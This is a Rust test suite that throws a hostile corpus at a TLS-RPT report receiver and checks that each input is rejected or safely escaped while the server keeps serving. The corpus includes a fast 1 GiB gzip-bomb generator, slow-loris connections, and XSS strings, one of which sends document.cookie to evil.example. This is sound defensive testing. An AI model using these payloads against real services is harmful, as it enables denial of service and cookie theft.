//! The hostile corpus against a running endpoint (REQUIREMENTS RCV-07, RCV-08, SEC-01,
//! SEC-02): each input is rejected with a clear reason (a 400 names the field), a good report
//! sent between every two of them is stored, the server keeps serving, and memory stays
//! bounded.

mod serverkit;

use std::time::{Duration, Instant};

use reqwest::StatusCode;
use reqwest::header::{CONTENT_ENCODING, CONTENT_TYPE};
use serverkit::*;
use tlsrpt_receiver::http::{self, HttpConfig, ServeOptions};
use tokio::io::AsyncWriteExt;

const GZIP: &str = "application/tlsrpt+gzip";
const JSON: &str = "application/tlsrpt+json";

/// A valid gzip member (RFC 1952) inflating to `total` zero bytes (a multiple of 1 MiB):
/// each further MiB is one identical sync-flushed deflate piece, so a 1 GiB bomb is built in
/// milliseconds, with the right CRC-32 and ISIZE.
fn gzip_bomb(total: usize) -> Vec<u8> {
    use flate2::{Compress, Compression, FlushCompress};
    const MIB: usize = 1 << 20;
    assert!(total >= 3 * MIB && total.is_multiple_of(MIB));
    let zeros = vec![0u8; MIB];
    let mut c = Compress::new(Compression::best(), false);
    let piece = |c: &mut Compress, input: &[u8], flush: FlushCompress| {
        let mut out = Vec::with_capacity(64 * 1024);
        let mut consumed = 0;
        loop {
            let before_in = c.total_in();
            c.compress_vec(&input[consumed..], &mut out, flush).unwrap();
            consumed += (c.total_in() - before_in) as usize;
            if consumed == input.len() && out.len() < out.capacity() {
                return out;
            }
            out.reserve(64 * 1024);
        }
    };
    let first = piece(&mut c, &zeros, FlushCompress::Sync);
    let second = piece(&mut c, &zeros, FlushCompress::Sync);
    let third = piece(&mut c, &zeros, FlushCompress::Sync);
    assert_eq!(second, third, "steady-state pieces must repeat");
    let tail = piece(&mut c, &[], FlushCompress::Finish);
    let mut crc = crc32fast::Hasher::new();
    let mut one = crc32fast::Hasher::new();
    one.update(&zeros);
    for _ in 0..total / MIB {
        crc.combine(&one);
    }
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 0xff];
    out.extend_from_slice(&first);
    for _ in 1..total / MIB {
        out.extend_from_slice(&second);
    }
    out.extend_from_slice(&tail);
    out.extend_from_slice(&crc.finalize().to_le_bytes());
    out.extend_from_slice(&(total as u32).to_le_bytes());
    out
}

#[test]
fn gzip_bomb_is_valid_gzip() {
    let b = gzip_bomb(4 << 20);
    let out = gunzip(&b);
    assert_eq!(out.len(), 4 << 20);
    assert!(out.iter().all(|&x| x == 0));
}

fn with(f: impl FnOnce(&mut serde_json::Value)) -> Vec<u8> {
    let mut v: serde_json::Value =
        serde_json::from_slice(&report_json("Hostile Org", "template")).unwrap();
    f(&mut v);
    serde_json::to_vec(&v).unwrap()
}

struct Case {
    name: &'static str,
    ctype: &'static str,
    encoding: Option<&'static str>,
    body: Vec<u8>,
    status: StatusCode,
    /// Text the error or the field must contain.
    expect: &'static str,
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sec_02_hostile_corpus_rejected_while_good_reports_are_stored() {
    let srv = start(unlimited()).await;
    let c = client();

    let bomb = gzip_bomb(1 << 30);
    assert!(bomb.len() < 2 << 20, "bomb is {} bytes", bomb.len());
    // Two layers: a few KiB that inflate to the 1 GiB bomb's ~1 MiB, then to 1 GiB.
    let bomb2 = gzip(&bomb);
    assert!(
        bomb2.len() < 16 * 1024,
        "double bomb is {} bytes",
        bomb2.len()
    );
    let good_gz = gzip(&report_json("Hostile Org", "truncated"));
    let mut deep = String::new();
    for _ in 0..10_000 {
        deep.push('[');
    }
    for _ in 0..10_000 {
        deep.push(']');
    }
    let deep_report = String::from_utf8(report_json("Hostile Org", "deep"))
        .unwrap()
        .replacen("{", &format!("{{\"x-deep\":{deep},"), 1);
    let mut bad_utf8 = report_json("Hostile Org \u{00e9}", "utf8");
    let pos = bad_utf8
        .windows(2)
        .position(|w| w == "é".as_bytes())
        .unwrap();
    bad_utf8[pos] = 0xff;

    let cases = vec![
        Case {
            name: "gzip bomb 1 MiB -> 1 GiB",
            ctype: GZIP,
            encoding: None,
            body: bomb.clone(),
            status: StatusCode::PAYLOAD_TOO_LARGE,
            expect: "max_decompressed_bytes",
        },
        Case {
            name: "gzip bomb in two layers, ~KiB -> 1 GiB (Content-Encoding + tlsrpt+gzip)",
            ctype: GZIP,
            encoding: Some("gzip"),
            body: bomb2,
            status: StatusCode::PAYLOAD_TOO_LARGE,
            expect: "max_decompressed_bytes",
        },
        Case {
            name: "truncated gzip",
            ctype: GZIP,
            encoding: None,
            body: good_gz[..good_gz.len() / 2].to_vec(),
            status: StatusCode::BAD_REQUEST,
            expect: "gzip",
        },
        Case {
            name: "gzip magic then garbage",
            ctype: GZIP,
            encoding: None,
            body: b"\x1f\x8bthis is not deflate data at all".to_vec(),
            status: StatusCode::BAD_REQUEST,
            expect: "gzip",
        },
        Case {
            name: "invalid UTF-8",
            ctype: JSON,
            encoding: None,
            body: bad_utf8,
            status: StatusCode::BAD_REQUEST,
            expect: "UTF-8",
        },
        Case {
            name: "JSON nested 10,000 deep",
            ctype: JSON,
            encoding: None,
            body: deep_report.into_bytes(),
            status: StatusCode::BAD_REQUEST,
            expect: "max_depth",
        },
        Case {
            name: "negative count",
            ctype: JSON,
            encoding: None,
            body: with(|v| {
                v["policies"][0]["summary"]["total-successful-session-count"] =
                    serde_json::json!(-5)
            }),
            status: StatusCode::BAD_REQUEST,
            expect: "policies[0].summary.total-successful-session-count",
        },
        Case {
            name: "2^70 count",
            ctype: JSON,
            encoding: None,
            body: String::from_utf8(with(|v| {
                v["policies"][0]["failure-details"][0]["failed-session-count"] =
                    serde_json::json!(7)
            }))
            .unwrap()
            .replace(
                "\"failed-session-count\":7",
                "\"failed-session-count\":1180591620717411303424",
            )
            .into_bytes(),
            status: StatusCode::BAD_REQUEST,
            expect: "policies[0].failure-details[0].failed-session-count",
        },
        Case {
            name: "not JSON",
            ctype: JSON,
            encoding: None,
            body: b"<html><script>alert(1)</script></html>".to_vec(),
            status: StatusCode::BAD_REQUEST,
            expect: "JSON",
        },
        Case {
            name: "empty body",
            ctype: JSON,
            encoding: None,
            body: Vec::new(),
            status: StatusCode::BAD_REQUEST,
            expect: "empty",
        },
        Case {
            name: "a JSON array, not a report",
            ctype: JSON,
            encoding: None,
            body: b"[1,2,3]".to_vec(),
            status: StatusCode::BAD_REQUEST,
            expect: "object",
        },
    ];

    let mut good_ids = Vec::new();
    let post_good = |i: usize| {
        let c = c.clone();
        let url = srv.url();
        async move {
            let resp = c
                .post(url)
                .header(CONTENT_TYPE, GZIP)
                .body(gzip(&report_json("Good Org", &format!("good-{i}"))))
                .send()
                .await
                .unwrap();
            assert_eq!(resp.status(), StatusCode::CREATED, "good report {i}");
            let v: serde_json::Value = resp.json().await.unwrap();
            v["id"].as_i64().unwrap()
        }
    };
    good_ids.push(post_good(0).await);
    for (i, case) in cases.into_iter().enumerate() {
        let started = Instant::now();
        let mut r = c
            .post(srv.url())
            .header(CONTENT_TYPE, case.ctype)
            .body(case.body);
        if let Some(e) = case.encoding {
            r = r.header(CONTENT_ENCODING, e);
        }
        let resp = r.send().await.unwrap();
        let status = resp.status();
        let v: serde_json::Value = resp.json().await.unwrap();
        assert_eq!(status, case.status, "{}: {v}", case.name);
        let text = format!(
            "{} {}",
            v["error"].as_str().unwrap_or(""),
            v["field"].as_str().unwrap_or("")
        );
        assert!(text.contains(case.expect), "{}: {v}", case.name);
        if status == StatusCode::BAD_REQUEST {
            assert!(
                v["field"].is_string(),
                "{}: a 400 names the field: {v}",
                case.name
            );
        }
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "{} took {:?}",
            case.name,
            started.elapsed()
        );
        good_ids.push(post_good(i + 1).await);
    }
    // Every good report is there, nothing else.
    let list: Vec<serde_json::Value> = c
        .get(srv.api("/api/v1/reports?limit=1000"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let mut listed: Vec<i64> = list.iter().map(|e| e["id"].as_i64().unwrap()).collect();
    listed.sort();
    good_ids.sort();
    assert_eq!(listed, good_ids);
    // The 1 GiB bombs cost bounded memory (limits: 10 MiB body, 20 MiB inflated).
    let peak = peak_rss_mib();
    eprintln!("peak RSS {peak} MiB");
    assert!(peak < 256, "peak RSS {peak} MiB");
    srv.stop().await;
}

/// 50 MiB announced: 413 before the body is sent, so none of it is read. (Sent raw: a client
/// still writing its body when the early 413 arrives may see a broken pipe instead, which
/// is why this is not in the corpus loop above.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rcv_07_50_mib_body_413_without_reading_it() {
    let srv = start(unlimited()).await;
    let started = Instant::now();
    let a = raw_request(
        srv.rcv,
        &format!(
            "POST /tlsrpt HTTP/1.1\r\nContent-Type: {GZIP}\r\nContent-Length: {}",
            50 << 20
        ),
        &[],
    )
    .await;
    assert_eq!(a.status, 413, "{a:?}");
    assert_eq!(a.json()["limit"], "max_body_bytes");
    assert!(started.elapsed() < Duration::from_secs(5));

    // Chunked, no length given: cut off once 10 MiB have arrived.
    let mut s = tokio::net::TcpStream::connect(srv.rcv).await.unwrap();
    let head = format!(
        "POST /tlsrpt HTTP/1.1\r\nHost: x\r\nContent-Type: {GZIP}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    );
    s.write_all(head.as_bytes()).await.unwrap();
    let chunk = vec![b'x'; 1 << 20];
    let mut sent = 0usize;
    for _ in 0..50 {
        let mut piece = format!("{:x}\r\n", chunk.len()).into_bytes();
        piece.extend_from_slice(&chunk);
        piece.extend_from_slice(b"\r\n");
        if s.write_all(&piece).await.is_err() {
            break;
        }
        sent += chunk.len();
    }
    let a = read_answer(&mut s).await;
    assert_eq!(a.status, 413, "after {sent} bytes: {a:?}");
    assert!(sent < 50 << 20 || a.status == 413);

    // Still serving.
    let resp = client()
        .post(srv.url())
        .header(CONTENT_TYPE, JSON)
        .body(report_json("After", "after-50mib"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::CREATED);
    srv.stop().await;
}

/// Slow-loris: headers must arrive within the header timeout, the body within the request
/// timeout (408); idle connections are closed; the server keeps serving.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rcv_07_slow_clients_are_cut_off() {
    let (store, _dir, _) = temp_store().await;
    let router = http::router(
        pipeline(store),
        HttpConfig {
            request_timeout: Duration::from_secs(1),
            rate_per_minute: 0,
            ..HttpConfig::default()
        },
    );
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let task = tokio::spawn(http::serve_with(
        l,
        router,
        None,
        ServeOptions {
            header_read_timeout: Duration::from_secs(1),
            ..ServeOptions::default()
        },
        async {
            let _ = stopped.await;
        },
    ));

    // Headers trickling in: cut off after ~1 s.
    let started = Instant::now();
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    s.write_all(b"POST /tlsrpt HTTP/1.1\r\nHost: x\r\n")
        .await
        .unwrap();
    let mut buf = Vec::new();
    let r = tokio::time::timeout(
        Duration::from_secs(10),
        tokio::io::AsyncReadExt::read_to_end(&mut s, &mut buf),
    )
    .await;
    assert!(r.is_ok(), "connection not closed");
    assert!(started.elapsed() < Duration::from_secs(5));

    // A connection that sends nothing at all is closed too.
    let started = Instant::now();
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    let mut buf = Vec::new();
    let r = tokio::time::timeout(
        Duration::from_secs(10),
        tokio::io::AsyncReadExt::read_to_end(&mut s, &mut buf),
    )
    .await;
    assert!(r.is_ok(), "idle connection not closed");
    assert!(started.elapsed() < Duration::from_secs(5));

    // A keep-alive connection left idle after a request is closed too.
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    s.write_all(b"GET /tlsrpt HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let mut first = [0u8; 12];
    tokio::io::AsyncReadExt::read_exact(&mut s, &mut first)
        .await
        .unwrap();
    assert_eq!(&first, b"HTTP/1.1 405");
    let started = Instant::now();
    let mut buf = Vec::new();
    let r = tokio::time::timeout(
        Duration::from_secs(10),
        tokio::io::AsyncReadExt::read_to_end(&mut s, &mut buf),
    )
    .await;
    assert!(r.is_ok(), "idle keep-alive connection not closed");
    assert!(started.elapsed() < Duration::from_secs(5));

    // Body trickling in: 408 after the request timeout.
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    s.write_all(
        format!("POST /tlsrpt HTTP/1.1\r\nHost: x\r\nContent-Type: {JSON}\r\nContent-Length: 1000\r\nConnection: close\r\n\r\n{{\"a\"")
            .as_bytes(),
    )
    .await
    .unwrap();
    let a = read_answer(&mut s).await;
    assert_eq!(a.status, 408, "{a:?}");

    // Still serving.
    let resp = client()
        .post(format!("http://{addr}/tlsrpt"))
        .header(CONTENT_TYPE, JSON)
        .body(report_json("After", "after-slow"))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::CREATED);
    let _ = stop.send(());
    task.await.unwrap().unwrap();
}

/// Odd but usable content is kept: HTML and script in string fields are stored verbatim and
/// come back from the API JSON-escaped, never as markup (RCV-08); an `x.x.x.x` IP is stored
/// verbatim with a deviation.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rcv_08_html_in_fields_stored_verbatim_and_returned_escaped() {
    let srv = start(unlimited()).await;
    let c = client();
    let org = "<script>alert('org')</script><img src=x onerror=alert(1)>";
    let reason = "</td><script>document.location='https://evil.example/?'+document.cookie</script>";
    let body = {
        let mut v: serde_json::Value =
            serde_json::from_slice(&report_json(org, "<b>id</b>")).unwrap();
        v["policies"][0]["failure-details"][0]["failure-reason-code"] = serde_json::json!(reason);
        v["policies"][0]["failure-details"][0]["receiving-ip"] = serde_json::json!("x.x.x.x");
        serde_json::to_vec(&v).unwrap()
    };
    let resp = c
        .post(srv.url())
        .header(CONTENT_TYPE, JSON)
        .body(body.clone())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::CREATED);
    let id = resp.json::<serde_json::Value>().await.unwrap()["id"]
        .as_i64()
        .unwrap();

    for path in [
        "/api/v1/reports".to_owned(),
        format!("/api/v1/reports/{id}"),
    ] {
        let resp = c.get(srv.api(&path)).send().await.unwrap();
        assert_eq!(resp.headers()[CONTENT_TYPE], "application/json");
        assert_eq!(resp.headers()["x-content-type-options"], "nosniff");
        let text = resp.text().await.unwrap();
        assert!(!text.contains('<') && !text.contains('>'), "{path}: {text}");
        assert!(text.contains("\\u003cscript\\u003e"), "{path}: {text}");
        let v: serde_json::Value = serde_json::from_str(&text).unwrap();
        let summary = if v.is_array() { &v[0] } else { &v["summary"] };
        assert_eq!(summary["organization_name"], org);
        assert_eq!(summary["report_id"], "<b>id</b>");
        if !v.is_array() {
            let fd = &v["failure_details"][0];
            assert_eq!(fd["failure_reason_code"], reason);
            assert_eq!(fd["receiving_ip"], "x.x.x.x");
            assert!(
                v["deviations"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|d| d["path"].as_str().unwrap().contains("receiving-ip")),
                "{v}"
            );
        }
    }
    // The original bytes come back unchanged, as an attachment that is never rendered.
    let resp = c
        .get(srv.api(&format!("/api/v1/reports/{id}/raw")))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.headers()[CONTENT_TYPE], "application/tlsrpt+json");
    assert_eq!(resp.headers()["x-content-type-options"], "nosniff");
    assert!(
        resp.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .starts_with("attachment")
    );
    assert_eq!(resp.bytes().await.unwrap().as_ref(), body.as_slice());
    srv.stop().await;
}
